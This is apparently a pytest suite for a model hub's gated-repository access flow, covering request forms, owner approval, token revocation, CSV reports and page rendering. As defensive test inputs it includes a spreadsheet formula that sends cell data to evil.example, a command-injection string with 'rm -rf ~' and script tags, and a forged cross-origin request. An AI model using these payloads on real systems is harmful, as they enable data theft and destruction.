"""The gate over HTTP: forms and answers, what each door says, and what was given out before."""

from __future__ import annotations

import csv
import hashlib
import html
import io
import json
import shlex
from collections.abc import Iterator
from typing import Any
from urllib.parse import urlencode, urlsplit

import pytest
from hypothesis import given
from hypothesis import strategies as st

from headwater.catalog.actors import OPERATOR, Scope
from headwater.catalog.commits import Plan, PutFile, PutLfs
from headwater.hub.csv_file import safe_cell
from headwater.hub.routes import table
from headwater.names import Digest, RepoPath
from hub.xet_kit import Answer, Cas, serve

CARD = b"""---
extra_gated_heading: Weights of ACME
extra_gated_prompt: Do no harm.
extra_gated_button_content: I want it
extra_gated_fields:
  Company: text
  Born: date_picker
  Where: country
  I agree: checkbox
---
Text.
"""
FORM = {"Company": "ACME", "Born": "1990-02-28", "Where": "France", "I agree": "on"}
ASK = "/api/models/ann/m/user-access-request"


class Gate:
    """A hub with a gated model of ann's, and people in front of it."""

    def __init__(self, cas: Cas) -> None:
        self.cas = cas
        self.ann, self.bob, self.eve = (cas.user(name) for name in ("ann", "bob", "eve"))
        self.repo = cas.repo("ann/m")
        catalog = cas.hub.catalog
        self.data = b"weights" * 1000
        writer = cas.hub.store.write_plain(len(self.data))
        writer.write(self.data)
        blob = writer.finish(None, len(self.data))
        catalog.blobs.uploaded(OPERATOR, blob.oid, blob.size_bytes)
        self.oid = blob.oid
        oids = catalog.commits.stage(self.repo, [CARD, b"{}"])
        plan = Plan(
            "main",
            (
                PutFile(RepoPath("README.md"), oids[0]),
                PutFile(RepoPath("config.json"), oids[1]),
                PutLfs(RepoPath("w.bin"), Digest(self.oid), len(self.data)),
            ),
            "add",
        )
        catalog.commits.apply(OPERATOR, self.repo, plan)
        catalog.repos.set(OPERATOR, "model", "ann/m", gated="manual")

    def ask(self, method: str, path: str, token: str | None, body: Any = None) -> Answer:
        raw = None if body is None else json.dumps(body).encode()
        return self.cas.ask(method, path, token=token, body=raw)

    def form(
        self, token: str | None, fields: dict[str, str] | list[tuple[str, str]], **headers: str
    ) -> Answer:
        sent = {"Content-Type": "application/x-www-form-urlencoded"}
        sent |= {name.replace("_", "-"): value for name, value in headers.items()}
        body = urlencode(fields).encode()
        return self.cas.ask("POST", "/ann/m/ask-access", token=token, body=body, headers=sent)

    def decide(self, status: str, user: str = "bob", **more: str) -> Answer:
        return self.ask("POST", ASK + "/handle", self.ann, {"user": user, "status": status, **more})

    def reads(self, token: str | None) -> int:
        statuses = {
            self.cas.ask("GET", path, token=token).status
            for path in (
                "/ann/m/resolve/main/w.bin",
                "/ann/m/resolve/main/config.json",
                "/api/models/ann/m/auth-check",
            )
        }
        assert len(statuses) == 1, "the doors disagree"
        return statuses.pop()


@pytest.fixture
def gate() -> Iterator[Gate]:
    with serve(table) as cas:
        yield Gate(cas)


def message(answer: Answer) -> str:
    return str(answer.json["error"])


def test_what_is_asked_is_told(gate: Gate) -> None:
    told = gate.ask("GET", "/ann/m/ask-access", gate.bob)
    assert told.json == {
        "id": "ann/m", "type": "model", "gated": "manual", "access": False, "status": None,
        "heading": "Weights of ACME", "prompt": "Do no harm.", "description": "",
        "buttonContent": "I want it", "shared": ["username", "fullname", "email"],
        "fields": [
            {"name": "Company", "type": "text"}, {"name": "Born", "type": "date_picker"},
            {"name": "Where", "type": "country"}, {"name": "I agree", "type": "checkbox"},
        ],
        "ask": f"{gate.cas.url}/ann/m/ask-access",
    }  # fmt: skip
    assert gate.ask("GET", "/ann/m/ask-access", None).json["access"] is False


def test_three_messages_and_the_readme_that_stays(gate: Gate) -> None:
    at = "/ann/m/resolve/main/w.bin"
    first = gate.cas.ask("GET", at, token=gate.bob)
    assert (first.status, first.headers["X-Error-Code"]) == (403, "GatedRepo")
    assert message(first) == (
        "Access to model ann/m is restricted and you are not in the authorized list. "
        f"Visit {gate.cas.url}/ann/m/ask-access to ask for access."
    )
    assert gate.form(gate.bob, FORM).status == 303
    assert message(gate.cas.ask("GET", at, token=gate.bob)) == (
        "Your request to access model ann/m is awaiting a review from the repo authors."
    )
    gate.decide("rejected")
    assert message(gate.cas.ask("GET", at, token=gate.bob)) == (
        "Your request to access model ann/m has been rejected by the repo's authors."
    )
    nobody = gate.cas.ask("GET", at)
    assert (nobody.status, nobody.headers["X-Error-Code"]) == (401, "GatedRepo")
    for token in (None, gate.bob):
        assert gate.cas.ask("GET", "/ann/m/resolve/main/README.md", token=token).status == 200


def test_a_message_behind_a_strange_host_is_still_a_refusal(gate: Gate) -> None:
    """The address in the message comes from the Host header: one that is none gets none."""
    answer = gate.cas.ask("GET", "/ann/m/resolve/main/w.bin", headers={"Host": "a b<script>"})
    assert answer.status == 400
    assert "is not one host name" in message(answer)


def test_asking_by_form_and_by_json(gate: Gate) -> None:
    answer = gate.form(gate.bob, FORM)
    assert (answer.status, answer.headers["Location"]) == (303, f"{gate.cas.url}/ann/m")
    again = gate.form(gate.bob, FORM, Accept="application/json")
    assert (again.status, again.json["status"]) == (200, "pending")
    fields = {**FORM, "I agree": True}
    other = gate.ask("POST", ASK, gate.eve, {"fields": fields})
    assert other.json["status"] == "pending"
    listed = gate.ask("GET", ASK + "/pending", gate.ann).json
    assert [(row["user"]["user"], row["fields"]) for row in listed] == [
        ("bob", fields),
        ("eve", fields),
    ]
    assert listed[0]["requestId"] == again.json["requestId"]
    assert set(listed[0]) == {"requestId", "status", "timestamp", "user", "fields"}


@pytest.mark.parametrize(
    "change",
    [
        {"Company": ""}, {"Company": "x" * 2001}, {"Born": "28.02.1990"}, {"Born": "1990-02-30"},
        {"Where": "<b>"}, {"I agree": "off"}, {"Strange": "x"},
    ],
)  # fmt: skip
def test_a_form_that_is_not_filled_in(gate: Gate, change: dict[str, str]) -> None:
    assert gate.form(gate.bob, FORM | change).status == 400
    assert gate.ask("GET", ASK + "/pending", gate.ann).json == []


def test_a_field_is_sent_once(gate: Gate) -> None:
    assert gate.form(gate.bob, [*FORM.items(), ("Company", "other")]).status == 400


def test_a_foreign_page_cannot_ask_in_somebody_s_name(gate: Gate) -> None:
    """A browser sends a form from anywhere, but no Authorization header: then nobody asked."""
    answer = gate.form(None, FORM, Origin="https://evil.example", Cookie="token=" + gate.bob)
    assert answer.status == 401
    assert gate.cas.ask("POST", f"/ann/m/ask-access?token={gate.bob}", body=b"").status == 401
    assert gate.ask("GET", ASK + "/pending", gate.ann).json == []


def test_acceptance_opens_every_door_and_revoking_closes_them(gate: Gate) -> None:
    """Downloads, hashes in listings, LFS addresses and Xet tokens, those already out included."""
    gate.ask("POST", ASK, gate.bob, {"fields": {**FORM, "I agree": True}})
    assert gate.reads(gate.bob) == 403
    assert gate.decide("accepted").status == 200
    assert gate.reads(gate.bob) == 200
    assert gate.reads(gate.eve) == 403
    tree = "/api/models/ann/m/tree/main"
    assert str(gate.oid).encode() in gate.ask("GET", tree, gate.bob).body
    assert str(gate.oid).encode() not in gate.ask("GET", tree, gate.eve).body
    batch = {
        "operation": "download",
        "objects": [{"oid": gate.oid, "size": len(gate.data)}],
    }
    found = gate.ask("POST", "/ann/m.git/info/lfs/objects/batch", gate.bob, batch).json
    href = found["objects"][0]["actions"]["download"]["href"]
    assert gate.cas.ask("GET", href).body == gate.data
    base, key = gate.cas.key(gate.bob, "ann/m", "read")
    unknown = f"{base}/v1/reconstructions/{'ab' * 32}"
    assert gate.cas.ask("GET", unknown, token=key).status == 404

    assert gate.decide("rejected", rejectionReason="changed my mind").status == 200
    assert gate.reads(gate.bob) == 403
    assert gate.cas.ask("GET", href).status == 403
    assert gate.cas.ask("GET", unknown, token=key).status == 403
    assert str(gate.oid).encode() not in gate.ask("GET", tree, gate.bob).body
    assert gate.ask("POST", "/ann/m.git/info/lfs/objects/batch", gate.bob, batch).status == 403


def test_owners_answer(gate: Gate) -> None:
    listed = gate.ask("GET", ASK + "/pending", gate.ann)
    assert listed.json == []
    for body in ({}, {"user": "bob"}, {"status": "accepted"}, {"user": "bob", "status": "yes"},
                 {"user": "bob", "requestId": "x", "status": "accepted"},
                 {"user": "bob", "status": "accepted", "rejectionReason": "no"}):  # fmt: skip
        assert gate.ask("POST", ASK + "/handle", gate.ann, body).status == 400, body
    missing = gate.decide("accepted")
    assert (missing.status, message(missing)) == (
        404, "No access request found matching your criteria",
    )  # fmt: skip
    assert gate.decide("accepted", user="nobody").status == 404
    assert gate.ask("POST", ASK + "/grant", gate.ann, {"user": "bob"}).json == {}
    assert gate.reads(gate.bob) == 200
    assert gate.ask("POST", ASK + "/grant", gate.ann, {"user": "bob"}).status == 400
    assert gate.ask("POST", ASK + "/grant", gate.ann, {"user": "nobody"}).status == 404
    assert gate.ask("POST", ASK + "/cancel", gate.bob).status == 200
    assert gate.reads(gate.bob) == 403
    gate.cas.hub.catalog.repos.set(OPERATOR, "model", "ann/m", gated="")
    assert gate.ask("GET", ASK + "/pending", gate.ann).status == 400  # not gated
    assert gate.ask("GET", ASK + "/nothing", gate.ann).status == 404


def test_strangers_see_no_list_and_a_hidden_repo_is_missing(gate: Gate) -> None:
    """Nobody learns who asked; and a private gated repo answers as one that never was."""
    for path in (ASK + "/pending", "/ann/m/user-access-report"):
        assert gate.ask("GET", path, gate.bob).status == 403
        assert gate.ask("GET", path, None).status == 401
    gate.cas.repo("ann/hidden", private=True)
    gate.cas.hub.catalog.repos.set(OPERATOR, "model", "ann/hidden", gated="auto")
    doors = [
        ("GET", "/{}/ask-access", None), ("POST", "/{}/ask-access", {}),
        ("GET", "/{}/user-access-report", None), ("POST", "/api/models/{}/user-access-request", {}),
        ("POST", "/api/models/{}/user-access-request/cancel", {}),
        ("GET", "/api/models/{}/user-access-request/pending", None),
        ("POST", "/api/models/{}/user-access-request/handle", {"user": "bob", "status": "pending"}),
        ("POST", "/api/models/{}/user-access-request/grant", {"user": "bob"}),
    ]  # fmt: skip
    for method, path, body in doors:
        for token in (None, gate.bob):
            answers = [
                gate.ask(method, path.format(full), token, body)
                for full in ("ann/hidden", "ann/nothing")
            ]
            told = [
                (a.status, a.headers["X-Error-Code"], message(a).replace("hidden", "nothing"))
                for a in answers
            ]
            assert told[0] == told[1], path
            assert told[0][0] == (401 if token is None else 404), path


def test_lists_come_in_pages(gate: Gate) -> None:
    for name in ("u1a", "u2a", "u3a"):
        gate.ask("POST", ASK + "/grant", gate.ann, {"user": name_of(gate, name)})
    url: str | None = ASK + "/accepted?limit=2"
    seen: list[str] = []
    while url:
        answer = gate.ask("GET", url, gate.ann)
        seen += [row["user"]["user"] for row in answer.json]
        link = answer.headers["Link"]
        url = link.split(">")[0][1:] if link else None
        if url:
            assert urlsplit(url).netloc == urlsplit(gate.cas.url).netloc
    assert seen == ["u1a", "u2a", "u3a"]
    assert gate.ask("GET", ASK + "/accepted?cursor=LTE", gate.ann).status == 400  # -1


def name_of(gate: Gate, name: str) -> str:
    gate.cas.user(name)
    return name


def test_the_report_runs_nothing(gate: Gate) -> None:
    """What a stranger typed is text in the owner's spreadsheet, never a formula."""
    evil = '=HYPERLINK("http://evil.example?x="&A1,"open me")'
    sent = {**FORM, "Company": evil}
    gate.form(gate.bob, sent)
    answer = gate.ask("GET", "/ann/m/user-access-report", gate.ann)
    assert answer.headers["Content-Type"].startswith("text/csv")
    assert answer.headers["Content-Disposition"].startswith("attachment")
    assert answer.headers["X-Content-Type-Options"] == "nosniff"
    head, row = csv.reader(io.StringIO(answer.body.decode()))
    assert head == ["user", "fullname", "email", "time", "status", "reason", *FORM]
    assert row[0] == "bob"
    assert row[head.index("Company")] == "'" + evil
    assert row[head.index("I agree")] == "yes"


CONTROLS = "".join(map(chr, range(32))) + "\x7f"
SKIPPED = ("", " ", "\t\r\n ", CONTROLS + " ", CONTROLS + " \u00a0\u200b\ufeff")  # by some program


@given(st.text(max_size=20) | st.text("=+-@|% \t\r\n\x1f\u200b\ufeff'\",a", max_size=6))
def test_no_cell_begins_like_a_formula(text: str) -> None:
    """Whatever a program skips before it looks; and what was typed is kept to the letter."""
    cell = safe_cell(text)
    assert cell in (text, "'" + text)
    for skipped in SKIPPED:
        assert not cell.lstrip(skipped).startswith(("=", "+", "-", "@", "|", "%"))


def test_a_fine_grained_token_says_so(gate: Gate) -> None:
    gate.ask("POST", ASK + "/grant", gate.ann, {"user": "bob"})
    tokens = gate.cas.hub.catalog.tokens
    narrow = tokens.create(
        "bob", "n", "fineGrained", scopes=(Scope("user", "bob", ("repo.content.read",)),)
    )
    wide = tokens.create(
        "bob", "w", "fineGrained", scopes=(Scope("user", "bob", ("canReadGatedRepos",)),)
    )
    assert (gate.reads(narrow), gate.reads(wide)) == (403, 200)
    told = gate.ask("GET", "/api/whoami-v2", wide).json["auth"]["accessToken"]["fineGrained"]
    assert told == {"canReadGatedRepos": True, "global": [], "scoped": []}


def test_an_upload_address_ends_with_the_token_it_was_made_for(gate: Gate) -> None:
    """It lives for an hour; a token that leaked must not (rule T5). Failed before: 200."""
    gate.cas.repo("bob/m")
    tokens = gate.cas.hub.catalog.tokens
    token = tokens.create("bob", "leaked", "write")
    data = b"fresh" * 100
    batch = {
        "operation": "upload",
        "transfers": ["basic"],
        "objects": [{"oid": hashlib.sha256(data).hexdigest(), "size": len(data)}],
    }
    found = gate.ask("POST", "/bob/m.git/info/lfs/objects/batch", token, batch).json
    href = found["objects"][0]["actions"]["upload"]["href"]
    tokens.revoke("bob", "leaked")
    refused = gate.cas.ask("PUT", href, body=data)
    assert (refused.status, refused.headers["X-Error-Code"]) == (401, "Unauthorized")
    tokens.create("bob", "leaked", "write")  # the same name is another token
    assert gate.cas.ask("PUT", href, body=data).status == 401
    held = gate.cas.hub.catalog.blobs.held(
        gate.cas.actor(gate.bob), [Digest(hashlib.sha256(data).hexdigest())]
    )
    assert held == {}


def test_a_download_address_ends_with_its_token(gate: Gate) -> None:
    token = gate.cas.hub.catalog.tokens.create("ann", "leaked", "read")
    batch = {"operation": "download", "objects": [{"oid": gate.oid, "size": len(gate.data)}]}
    found = gate.ask("POST", "/ann/m.git/info/lfs/objects/batch", token, batch).json
    href = found["objects"][0]["actions"]["download"]["href"]
    assert gate.cas.ask("GET", href).status == 200
    gate.cas.hub.catalog.tokens.revoke("ann", "leaked")
    assert gate.cas.ask("GET", href).status == 401


def test_a_person_who_follows_the_message_sees_a_page(gate: Gate) -> None:
    """What a card says is text there: no markup, and no way out of the quoted command."""
    evil = "' ; rm -rf ~ #<script>alert(1)</script>"
    card = f"---\nextra_gated_prompt: {json.dumps(evil)}\nextra_gated_fields:\n"
    card += f"  {json.dumps(evil)}: text\n---\n"
    oids = gate.cas.hub.catalog.commits.stage(gate.repo, [card.encode()])
    plan = Plan("main", (PutFile(RepoPath("README.md"), oids[0]),), "evil")
    gate.cas.hub.catalog.commits.apply(OPERATOR, gate.repo, plan)
    page = gate.cas.ask("GET", "/ann/m/ask-access", headers={"Accept": "text/html,*/*;q=0.8"})
    assert page.headers["Content-Type"].startswith("text/html")
    assert "default-src 'none'" in page.headers["Content-Security-Policy"]
    assert b"<script" not in page.body
    command = html.unescape(page.body.decode().split('<pre class="text">')[1].split("</pre>")[0])
    words = shlex.split(command)
    assert words[0] == "curl"
    assert words[-1] == f"{gate.cas.url}/ann/m/ask-access"
    assert json.loads(words[-2]) == {evil: "…"}
